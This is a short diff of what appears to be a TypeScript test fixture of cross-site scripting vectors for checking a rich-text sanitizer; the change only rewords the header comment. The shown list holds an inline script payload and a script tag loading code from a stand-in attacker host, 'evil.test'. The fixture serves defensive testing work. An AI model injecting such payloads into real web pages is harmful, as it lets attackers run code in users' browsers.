@@ -1,4 +1,4 @@
-/** Attacks on a rich text sanitizer: from public XSS cheat sheets, and from past defects of sanitizers. */
+/** Attacks on rich-text sanitizers, from public XSS cheat sheets and from past bugs of sanitizers. */
 export const XSS_VECTORS: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
